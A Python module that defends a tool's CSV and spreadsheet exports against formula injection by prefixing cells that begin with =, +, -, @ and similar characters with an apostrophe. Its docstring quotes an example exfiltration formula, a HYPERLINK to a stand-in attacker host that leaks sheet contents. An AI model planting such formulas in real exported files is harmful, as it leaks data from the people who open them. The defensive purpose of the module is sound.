"""Cells as they may leave the radar in a file a spreadsheet opens (CSV, Excel).

Register texts, names and reasons are typed by people; a cell that starts with ``=``,
``+``, ``-`` or ``@`` is read by Excel, LibreOffice and Google Sheets as a formula (OWASP
"CSV Injection", CWE-1236): ``=HYPERLINK("https://evil.example/?"&A1)`` leaks the sheet,
DDE formulas can start programs. Every export the radar writes (today
``radar catalogue --format csv``; Excel and Parquet exports later) passes its cells
through ``neutralise`` / ``neutralise_frame``, so no file of ours carries a live formula.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

# OWASP's list (=, +, -, @, tab, carriage return), plus the full-width forms of the
# first four, which some spreadsheet locales also take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"


def neutralise(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: text that could start a formula gets a
    leading apostrophe; anything else (numbers, dates, booleans, None) is returned as is.

    Why the apostrophe (OWASP's recommended prefix, not the tab some tools use): it is
    what a spreadsheet user types to force text, so Excel and LibreOffice show the cell as
    text and never evaluate it, with or without CSV quoting; and it stays visible, so a
    reader sees the cell was changed, where a leading tab silently alters the value. The
    cost: a program reading the CSV back gets the apostrophe too (``'-3 dagen``).

    Only text is changed: a negative number is a number, not a formula, and stays one.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name neutralised."""
    columns = [
        column if pd.api.types.is_numeric_dtype(column) else column.map(neutralise)
        for _, column in frame.items()
    ]
    out = pd.concat(columns, axis=1) if columns else frame.copy()
    out.columns = [neutralise(name) for name in frame.columns]
    return out
